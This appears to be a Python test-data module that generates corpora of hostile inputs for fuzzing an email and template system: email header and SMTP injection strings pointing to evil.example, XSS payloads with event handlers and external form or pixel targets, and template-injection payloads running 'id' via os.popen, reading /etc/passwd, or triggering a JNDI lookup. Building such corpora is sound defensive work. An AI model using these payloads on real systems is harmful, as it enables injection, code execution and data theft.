"""Corpora of hostile texts, built from their parts, so that every end meets every form."""

from __future__ import annotations

from itertools import product

PRODUCT = "9801547"
"""What 1337*7331 would be if anybody worked it out."""

_SUM = "1337*7331"
_LINE_ENDS = (
    "\r\n",
    "\n",
    "\r",
    "\v",
    "\f",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
    "\x00",
    "\n\r",
    "\r\r\n",
)
_HEADERS = (
    "Bcc: x@evil.example",
    " Bcc: x@evil.example",
    "\tCc: x@evil.example",
    "To: x@evil.example",
    "Subject: stjålet",
    "Content-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "MIME-Version: 9",
    "X-A: b\r\nX-C: d",
    "\r\n--=_a\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    ".\r\nMAIL FROM:<x@evil.example>\r\nRCPT TO:<y@evil.example>\r\nDATA",
    ".",
    "Reply-To: x@evil.example",
    "List-Unsubscribe: <https://evil.example>",
    "QUIT",
)
_ADDRESSES = (
    '"', '\\"', "\\", "\\\\", '" <x@evil.example>, "', "<x@evil.example>", "x@evil.example, y", "x@evil.example>, <y",
    ",;:", "()", "(kommentar", "a@b@c", "undisclosed-recipients:;", "Gruppe: x@evil.example;", "[x]", "a <", "> b",
    '"a" "b"', "'", "`id`", "$(id)", "|id", "%0d%0aBcc: x@evil.example", "%0aBcc: x@evil.example", "\\r\\nBcc: x",
    "&#13;&#10;Bcc: x", "=0D=0ABcc: x", "=\r\nBcc: x", "A" * 3000, "æ" * 1000, "😀 " * 300, "a " * 1500, "--", "-- ",
    "--=_a", "From nobody", "\ufeffAnne", "\u202eelpmaxe.live@x", "\u2066a\u2069", "\ud800", "\x1b[31mrød", "\x7f",
)  # fmt: skip
_ENCODED = (
    "=0D=0ABcc:_x@evil.example",
    "=22=2C_x=40evil.example",
    "=3Cscript=3E",
    "a",
    "=00",
    "_=2E_",
    "a?=_=?utf-8?q?b",
)
_CHARSETS = ("utf-8", "us-ascii", "iso-8859-1", "utf-7", "UTF-8*da", "x", "utf-8?q?=41?= =?utf-8")

HEADERS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(f"Anne{end}{header}" for end, header in product(_LINE_ENDS, _HEADERS)),
            *(f"{end}{end}{header}" for end, header in product(_LINE_ENDS[:6], _HEADERS[:3])),
            *_ADDRESSES,
            *(f"=?{charset}?q?{word}?=" for charset, word in product(_CHARSETS, _ENCODED)),
            *(f"=?{charset}?b?DQpCY2M6IHhAZXZpbC5leGFtcGxl?= x" for charset in _CHARSETS),
            *(f"={end}?utf-8?q?a=0D=0ABcc:_x?=" for end in ("\u200b", "\n", "\u00ad", "\u2060")),
        )
    )
)

_TAGS = (
    "script",
    "img src=x",
    "svg",
    "body",
    "iframe src=x",
    "a href=x",
    "details open",
    "input autofocus",
    "style",
    "x",
)
_HANDLERS = ("onload", "onerror", "onclick", "onfocus", "onpointerover", "ontoggle", "onanimationstart")
_BREAKS = (
    "", '"', "'", "'>", '">', "-->", "</title>", "</style>", "</a>", "</td></table>", "</li></ul>",
    "</p>", "]]>", "\"'/>",
)  # fmt: skip
_ELEMENTS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<b>fed",
    "</div></body></html>",
    "<a href=javascript:alert(1)>klik</a>", "<iframe src=//evil.example>", "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>", "<form action=//evil.example><input name=p>", "<!-- <x> -->", "<![CDATA[<b>]]>",
    "<style>@import url(//evil.example)</style>", "<img src=https://evil.example/pixel.gif width=1 height=1>",
)  # fmt: skip
_ODD = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script>", "&amp;lt;", "&quot; onclick=alert(1)",
    "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript>", "＜script＞", "<\x00script>alert(1)",
    "<scr\x00ipt>alert(1)",
    "<script\n>alert(1)</script>", "<<script>alert(1)//<</script>", "<script/x>alert(1)", "<ſcript>", "<IMG SRC=x>",
    "x style=background:url(//evil.example)", 'x" style="position:fixed', "expression(alert(1))", "`onload=alert(1)",
    "https://evil.example", "https://evil.example/\"onclick=alert(1)", "http://a@evil.example", "//evil.example",
)  # fmt: skip

HTML: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(f"{end}{element}" for end, element in product(_BREAKS, _ELEMENTS)),
            *(f"<{tag} {handler}=alert(1)>" for tag, handler in product(_TAGS, _HANDLERS)),
            *(f"x{end} {handler}=alert(1) y={end}" for end, handler in product(_BREAKS[1:4], _HANDLERS)),
            *_ODD,
        )
    )
)

_EXPRESSIONS = (
    _SUM, "'a'.__class__.__mro__", "config", "self.__init__.__globals__", "request.application", "''.join(['a'])",
    "cycler.__init__.__globals__.os.popen('id').read()", "lipsum.__globals__['os'].popen('id').read()",
    "().__class__.__base__.__subclasses__()", "range(10**9)", "'x'*10**9", "navn|attr('__class__')", "namespace()",
    "joiner", "dict", "get_flashed_messages.__globals__", "url_for", "x.__class__", "letter", "style", "sender",
    "''['__cl'+'ass__']", "navn.__init__", "T(java.lang.Runtime)", "import os", "constructor.constructor('x')()",
)  # fmt: skip
_PLACES = (
    "{{ %s }}", "{{%s}}", "{%% print(%s) %%}", "{%%- if %s %%}a{%%- endif %%}", "${%s}", "#{%s}", "<%%= %s %%>", "{%s}",
    "{{{%s}}}", "*{%s}", "@(%s)", "[[%s]]", "{{=%s}}",
)  # fmt: skip
_FORMATS = (
    "{0.__class__}", "{navn.__globals__}", "{0!r:>9999999}", "%(navn)s", "%s%s%s%n", "%x" * 9, "$navn", "${navn}",
    "{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{% extends 'letter.html' %}", "{% raw %}",
    "{# skjult #}",
    "{% set x = 1 %}", "{% for i in range(9) %}a{% endfor %}", "{% autoescape false %}<b>{% endautoescape %}",
    "{{ navn }}", "{{ kontakt }}", "{{navn", "navn}}", "{{ {{ navn }} }}", "{{}}", "{{ }}", "{%", "%}", "{#",
    "<#assign x=1>", "#set($x=1)", "<%= 1 %>", "${jndi:ldap://evil.example/a}", "`${1}`", "{{ ''|safe }}",
    "{{ titel|safe }}",
)  # fmt: skip

TEMPLATES: tuple[str, ...] = tuple(
    dict.fromkeys((*(place % expression for place, expression in product(_PLACES, _EXPRESSIONS)), *_FORMATS))
)
